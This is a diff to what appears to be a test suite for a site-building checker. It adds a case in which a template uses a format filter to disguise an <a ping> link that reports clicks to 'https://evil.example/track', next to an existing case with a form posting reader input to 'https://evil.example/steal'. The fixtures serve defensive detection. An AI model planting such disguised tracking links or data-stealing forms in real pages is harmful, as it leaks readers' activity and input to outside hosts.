@@ -1514,8 +1514,14 @@ CASES |= {
                 '{{ "%c"|format(60) }}input name=q>{{ "%c"|format(60) }}/form>'),
         "site/index.html: a <form action> that sends what readers type to 'https://evil.example/steal'; remove it from the "
         "page or the data it came from: pages and data carry no scripts"),
+    "a template computing a link that pings another host": (
+        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}a href="/" ping="https://evil.example/track">x'
+                '{{ "%c"|format(60) }}/a>'),
+        "site/index.html: a <a ping> that tells 'https://evil.example/track' of every click; remove it from the page or the "
+        "data it came from: pages and data carry no scripts"),
 }
-RENDERED_TEMPLATES |= {"a template computing a <base> with a format filter", "a template computing a form posting off site"}
+RENDERED_TEMPLATES |= {"a template computing a <base> with a format filter", "a template computing a form posting off site",
+                       "a template computing a link that pings another host"}
 
 
 # Found only once the site or the PDF is made: these run as whole builds, as do a few of the others, which
